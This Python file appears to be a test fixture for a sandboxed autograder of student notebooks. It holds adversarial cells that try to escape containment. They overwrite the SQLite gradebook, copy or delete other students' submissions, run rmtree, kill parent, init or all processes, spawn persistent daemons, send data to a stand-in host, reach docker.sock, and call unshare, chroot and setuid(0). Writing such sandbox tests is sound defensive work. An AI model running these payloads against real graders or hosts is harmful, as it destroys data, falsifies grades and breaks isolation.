"""Attacks on what lies outside: files, other students' work, processes, the network."""


def trying(*lines):
    """A cell that tries each of the lines, at once and when its function is called."""
    tries = "".join(
        f"    try:\n        {line}\n    except Exception as error:\n        pass\n"
        for line in lines
    )
    return (
        "import ctypes, os, shutil, signal, socket, sqlite3, subprocess, sys\n"
        f"def attack():\n{tries}attack()\n"
        "def delta_output(Y_hat, Y):\n    attack()\n    return Y_hat + 7\n"
    )


MINE = "'FOLDER/mallory/01_hand_worked_backprop.ipynb'"
BREAKING_OUT = {
    "plant files": {
        "beside the notebook": trying(
            "open('FOLDER/mallory/numpy.py', 'w').write('x')",
            "open('FOLDER/mallory/sitecustomize.py', 'w').write('x')",
            "open('conftest.py', 'w').write('x')",
        ),
        "links": trying(
            "os.symlink('SECRET', 'FOLDER/mallory/02.ipynb')",
            "os.symlink('SECRET', '/tmp/here')",
            "open('/tmp/here', 'w').write('x')",
        ),
        "past the stand-ins": trying(
            "open.__func__.__globals__['real_open']('FOLDER/x', 'w').write('x')",
            "open.__func__.__globals__['REAL']['mkdir']('/tmp/x')",
            "open('FOLDER/mallory/x', 'w').write('x')",
            "os.remove('FOLDER/alice/01_hand_worked_backprop.ipynb')",
            "os.mkdir('FOLDER/mallory/x')",
        ),
        "in the home folder": trying(
            "open(os.path.expanduser('~root/.bashrc'), 'a').write('x')",
            "os.makedirs('ROOT/nnlib/exercises/notebook_01/__pycache__/x')",
        ),
    },
    "write the gradebook": {
        "by SQL": trying(
            "sqlite3.connect('BOOK').execute('update grade set points = 100')"
        ),
        "as a file": trying("open('BOOK', 'wb').write(b'')", "os.remove('BOOK')"),
    },
    "touch another submission": {
        "read and copy": trying(
            "shutil.copy('FOLDER/alice/01_hand_worked_backprop.ipynb', " + MINE + ")"
        ),
        "change": trying(
            "open('FOLDER/alice/01_hand_worked_backprop.ipynb', 'a').write('x')",
            "os.chmod('FOLDER/alice', 0)",
        ),
        "delete": trying(
            "shutil.rmtree('FOLDER')",
            "os.rename('FOLDER/alice', 'FOLDER/eve')",
        ),
    },
    "daemons": {
        "a double fork": trying(
            "os.fork() or (os.setsid(), os.fork() or exec('while True: pass'))"
        ),
        "a thread": trying(
            "from threading import Timer; Timer(0, exec, ('while 1: 0',)).start()"
        ),
        "a subprocess": trying(
            "subprocess.Popen([sys.executable, '-c', 'while True: pass'])",
            "os.system('sleep 1234 &')",
            "os.posix_spawn('/bin/sleep', ['sleep', '1234'], {})",
        ),
        "at the end": "import atexit, signal\natexit.register(exec, 'while 1: 0')\n"
        "for number in range(1, 32):\n"
        "    try: signal.signal(number, signal.SIG_IGN)\n"
        "    except OSError: pass\n" + trying("os.setsid()", "os.nice(-20)"),
    },
    "kill the parent": {
        "the parent": trying(
            "os.kill(os.getppid(), signal.SIGKILL)", "os.kill(1, signal.SIGKILL)"
        ),
        "the marker": trying(
            "os.kill(MARKER, signal.SIGKILL)", "os.killpg(MARKER, signal.SIGKILL)"
        ),
        "everything": trying("os.kill(-1, signal.SIGKILL)"),
        "by limits": trying(
            "import resource; resource.prlimit(1, resource.RLIMIT_AS, (1, 1))",
            "os.sched_setaffinity(1, [0])",
        ),
        "by looking inside": trying(
            "ctypes.CDLL(None).ptrace(16, 1, 0, 0)",
            "ctypes.CDLL(None).kill(1, 19)",
        ),
    },
    "sockets": {
        "out": trying(
            "socket.create_connection(('127.0.0.1', PORT), 1).send(b'here')",
            "socket.create_connection(('192.0.2.1', 80), 1).send(b'here')",
            "socket.getaddrinfo('example.org', 80)",
        ),
        "out by datagrams": trying(
            "socket.socket(type=socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', PORT))"
        ),
        "in": trying("s = socket.create_server(('0.0.0.0', 0)); s.accept()"),
        "of the machine": trying(
            "socket.socket(socket.AF_UNIX).connect('/run/docker.sock')",
            "socket.socket(socket.AF_UNIX).connect('\\0/tmp/.X11-unix/X0')",
        ),
    },
    "leave the sandbox": {
        "namespaces": trying(
            "ctypes.CDLL(None).unshare(0x10000000)",
            "ctypes.CDLL(None).mount(b'x', b'/tmp', b'tmpfs', 0, None)",
            "ctypes.CDLL(None).chroot(b'/tmp')",
        ),
        "devices": trying("os.mknod('/tmp/disk', 0o60666, os.makedev(254, 0))"),
        "rights": trying("os.setuid(0)", "os.setgroups([0])"),
    },
}
